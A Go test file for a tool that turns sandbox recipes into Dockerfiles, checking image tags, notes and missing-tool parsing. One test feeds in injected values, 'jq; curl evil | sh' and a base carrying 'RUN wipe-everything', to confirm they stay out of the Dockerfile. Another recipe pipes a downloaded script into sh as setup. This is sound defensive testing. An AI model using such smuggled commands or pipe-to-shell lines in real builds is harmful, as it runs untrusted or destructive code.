package project_test

import (
	"strings"
	"testing"

	"github.com/hutchsandbox/hutch/internal/project"
)

var recipes = []struct {
	name string
	r    project.Recipe
	tag  string
}{
	{"default", project.Recipe{Agents: []string{"claude"}}, "hutch-sandbox:b5e479fd"},
	{"no_agents", project.Recipe{}, "hutch-sandbox:1701404b"},
	{"full", project.Recipe{
		Base:     "ubuntu:24.04",
		Packages: []string{"jq", " ripgrep ", "git", "jq", "", "python3=3.12.3-0ubuntu1", "libssl3:amd64"},
		Agents:   []string{"Claude", "codex", "gemini", "claude"},
		Setup:    []string{"pip install --break-system-packages uv", "  ", "curl -fsSL https://example.com/x.sh | sh"},
	}, "hutch-sandbox:1f7e5552"},
	{"devcontainer_base", project.Recipe{Base: "mcr.microsoft.com/devcontainers/typescript-node:1-22-bookworm", Agents: []string{"claude"}}, "hutch-sandbox:2cab83b7"},
}

// TestRecipe_Dockerfile pins the generated Dockerfiles and their tags (the
// tags were checked with an independent FNV-1a over the golden files): a
// change to either rebuilds every user's sandbox image, so it must be on
// purpose.
func TestRecipe_Dockerfile(t *testing.T) {
	for _, tc := range recipes {
		t.Run(tc.name, func(t *testing.T) {
			d, notes := tc.r.Compile()
			if len(notes) != 0 {
				t.Errorf("Compile notes %q, want none", notes)
			}
			if d != tc.r.Dockerfile() {
				t.Errorf("Dockerfile() differs from Compile()")
			}
			golden(t, "recipe_"+tc.name+".dockerfile", d)
			if got := tc.r.Tag(); got != tc.tag {
				t.Errorf("Tag() got %q, want %q", got, tc.tag)
			}
			if got, want := tc.r.Tag(), "hutch-sandbox:"+project.Hash(d); got != want {
				t.Errorf("Tag() got %q, want the hash of the Dockerfile %q", got, want)
			}
		})
	}
}

func TestRecipe_TagFollowsTheDockerfile(t *testing.T) {
	base := project.Recipe{Agents: []string{"claude"}, Packages: []string{"jq"}}
	same := project.Recipe{Agents: []string{" claude", "claude"}, Packages: []string{"jq", "jq", " "}}
	if base.Tag() != same.Tag() {
		t.Errorf("recipes with the same Dockerfile got tags %s and %s", base.Tag(), same.Tag())
	}
	for _, changed := range []project.Recipe{
		{Agents: []string{"claude"}, Packages: []string{"jq", "ripgrep"}},
		{Agents: []string{"claude", "codex"}, Packages: []string{"jq"}},
		{Agents: []string{"claude"}, Packages: []string{"jq"}, Setup: []string{"true"}},
		{Base: "debian:trixie-slim", Agents: []string{"claude"}, Packages: []string{"jq"}},
	} {
		if changed.Tag() == base.Tag() {
			t.Errorf("recipe %+v got the tag of %+v", changed, base)
		}
	}
}

// TestRecipe_Notes: what cannot go into the image is left out with a
// note, and nothing of it reaches the Dockerfile.
func TestRecipe_Notes(t *testing.T) {
	r := project.Recipe{
		Base:     "debian\nRUN wipe-everything",
		Packages: []string{"jq; curl evil | sh", "Foo", "jq"},
		Agents:   []string{"copilot", "claude"},
		Setup: []string{
			"echo one\nRUN echo two", "echo continued \\", "cat <<EOF > /etc/motd",
			"cat <<< 'here-string is fine'", "echo ok",
		},
	}
	d, notes := r.Compile()
	for _, bad := range []string{"wipe-everything", "evil", "Foo", "copilot", "continued", "EOF", "two"} {
		if strings.Contains(d, bad) {
			t.Errorf("the Dockerfile holds %q:\n%s", bad, d)
		}
	}
	for _, good := range []string{"FROM debian:bookworm-slim\n", "    pkg jq; \\\n", "RUN cat <<< 'here-string is fine'\n", "RUN echo ok\n"} {
		if !strings.Contains(d, good) {
			t.Errorf("the Dockerfile lacks %q:\n%s", good, d)
		}
	}
	golden(t, "recipe_notes", strings.Join(notes, "\n")+"\n")
}

// TestRecipe_MissingTools: the install step's report of what a base
// without a known package manager lacks is read back from the build's
// output, and turned into what to do; the last report wins.
func TestRecipe_MissingTools(t *testing.T) {
	out := "Step 4/6 : RUN set -e; ...\n ---> Running in 1\nhutch-recipe-missing: old\n\x1b[91mhutch-recipe-missing: ca-certificates curl git bash\n\x1b[0mThe command returned a non-zero code: 1\n"
	got := project.MissingTools(out)
	if strings.Join(got, " ") != "ca-certificates curl git bash" {
		t.Fatalf("MissingTools = %q", got)
	}
	if project.MissingTools("E: Unable to locate package jq\n") != nil {
		t.Error("MissingTools found something in an apt failure")
	}
	// The builder prints the step, marker and all, before its output.
	step := project.Recipe{Base: "busybox:1"}.Dockerfile()
	if got := project.MissingTools(step + "Segmentation fault\nhutch: installing with apk: curl\n"); got != nil {
		t.Errorf("MissingTools found %q in the step's own text", got)
	}
	golden(t, "recipe_missing_tools", project.MissingToolsError("busybox:1", got, false)+"\n"+
		project.MissingToolsError("hutch-devcontainer:0123456789abcdef", got, true)+"\n")
}

// TestRecipe_NonAptNote: sandbox-packages on a base whose name says it
// has another package manager are passed as given, with a note; on a
// Debian base, or without packages, there is no note.
func TestRecipe_NonAptNote(t *testing.T) {
	for base, want := range map[string]bool{
		"node:22-alpine": true, "fedora:41": true, "registry.access.redhat.com/ubi9/ubi-minimal": true, "opensuse/tumbleweed": true,
		"debian:bookworm-slim": false, "ubuntu:24.04": false, "mcr.microsoft.com/devcontainers/base:bookworm": false,
	} {
		d, notes := project.Recipe{Base: base, Packages: []string{"jq"}}.Compile()
		if got := len(notes) == 1 && strings.Contains(notes[0], "passes the packages to it as given"); got != want {
			t.Errorf("%s: notes %q", base, notes)
		}
		if !strings.Contains(d, "    pkg jq; \\\n") {
			t.Errorf("%s: jq is not in the install step:\n%s", base, d)
		}
	}
	if _, notes := (project.Recipe{Base: "alpine:3.20"}).Compile(); len(notes) != 0 {
		t.Errorf("no packages, notes %q", notes)
	}
}
